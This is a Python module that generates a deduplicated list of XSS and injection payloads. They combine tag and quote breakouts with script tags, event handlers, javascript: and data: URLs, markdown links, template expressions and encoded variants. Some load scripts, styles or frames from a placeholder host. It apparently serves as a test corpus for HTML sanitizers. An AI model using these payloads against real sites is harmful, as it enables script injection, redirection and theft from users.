"""Texts that try to run something, to load something or to lead away, written by kind.

Each calls `ran(…)`, asks the host injected.invalid for something or goes there, if a page takes any
part of it for markup. A text is a way out of the place where texts stand, and what to do outside.
"""

from collections.abc import Iterator

HOST = "injected.invalid"
RUN = "ran()"

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</h1></a>",
    "</span></script>",
    "</style>",
    "-->",
    "</text></svg>",
    "`>",
    '\\">',
)

MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<script src=//{HOST}/s.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<image/src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><use href=//{HOST}/u.svg#u></use></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=//{HOST}/f></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video autoplay><source src=x onerror={RUN}></video>",
    f"<div style=animation-name:x onanimationstart={RUN} tabindex=0>x</div>",
    f"<meta http-equiv=refresh content=0;url=//{HOST}/m>",
    f"<link rel=stylesheet href=//{HOST}/l.css>",
    f"<base href=//{HOST}/b/>",
    f"<object data=//{HOST}/o></object>",
    f"<embed src=//{HOST}/e>",
    f"<style>@import '//{HOST}/i.css'; *{{background:url(//{HOST}/b.png)}}</style>",
    f"<img srcset=//{HOST}/p.png>",
    f"<form action=javascript:{RUN}><button autofocus onfocus={RUN}>x</button></form>",
)

ATTRIBUTES = (
    f"autofocus tabindex=0 onfocus={RUN}",
    f"onload={RUN} onerror={RUN}",
    f"style=background:url(//{HOST}/a.png)",
    f"href=javascript:{RUN} ping=//{HOST}/ping",
    f"src=//{HOST}/a.png srcset=//{HOST}/b.png",
    f"onmouseover={RUN} onpointerenter={RUN}",
)
QUOTES = ('" {} x="', "' {} x='", "` {} x=`", "&quot; {} x=&quot;", '\\" {} //')

MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"![x](https://{HOST}/p.png)",
    f"![x](https://{HOST}/q.png){{ onerror={RUN} }}",
    f"<javascript:{RUN}>",
    f"{{ onclick={RUN} onfocus={RUN} tabindex=0 autofocus }}",
    f"{{: style=background:url(//{HOST}/k.png) }}",
    f"``<img src=x onerror={RUN}>``",
    f"*<img src=x onerror={RUN}>*",
)

CODE = (
    f'";{RUN};"',
    f"';{RUN};'",
    f"-{RUN}-",
    f"${{{RUN}}}",
    f"\\u003cscript\\u003e{RUN}",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}",
    f"*/{RUN}/*",
    f"\\');{RUN}//",
    "{{ config.plugins }}",
    "{% include 'main.html' %}",
    f"{{{{ '<script>{RUN}</script>' | safe }}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<<script>script>{RUN}",
    f"<scr<script>ipt>{RUN}</script>",
    f"<a/href=javascript:{RUN}>x",
    f"<x onclick={RUN}>x",
)


def payloads() -> list[str]:
    """Every text, each once; each that leaves comments or tags open stands behind the others."""
    return list(dict.fromkeys(_payloads()))


def _payloads() -> Iterator[str]:
    for way_out in WAYS_OUT:
        for markup in MARKUP:
            yield way_out + markup
    for quote in QUOTES:
        for attributes in ATTRIBUTES:
            yield quote.format(attributes)
    yield from MARKDOWN
    yield from CODE
